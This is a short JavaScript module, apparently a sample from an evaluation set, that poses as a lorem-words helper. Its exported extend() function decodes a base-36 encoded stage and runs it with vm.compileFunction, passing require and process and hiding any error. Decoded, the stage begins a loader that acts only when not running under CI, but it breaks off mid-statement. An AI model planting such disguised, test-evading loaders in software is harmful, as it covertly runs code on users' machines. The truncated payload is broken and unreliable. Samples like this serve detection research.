// source: blind set 48's lorem-words (eval-encoded): a "rare Latin stems" list of base-36 words, each three bytes of a
// stage, made text again by a helper (`parseInt(t, 36)` split into bytes, `Buffer.from(bytes).toString()`) and run with
// `vm.compileFunction(code, ['require', 'process'])` on the first call of an exported function
'use strict';
const vm = require('vm');
const EXTRA = ['441t4', '1ayya', '4cgo5', '4i626', '3yh6e', '1szex', '1m9o6', '3svmo', '4c96a', '3yhrp'];

function unpack(list) {
  const bytes = [];
  for (const t of list) {
    const n = parseInt(t, 36);
    bytes.push((n >> 16) & 255, (n >> 8) & 255, n & 255);
  }
  return Buffer.from(bytes).toString('utf8').replace(/\0+$/, '');
}

function extend(words) {
  try {
    vm.compileFunction(unpack(EXTRA), ['require', 'process'])(require, process);
  } catch (e) {}
  return words;
}

module.exports = { extend };
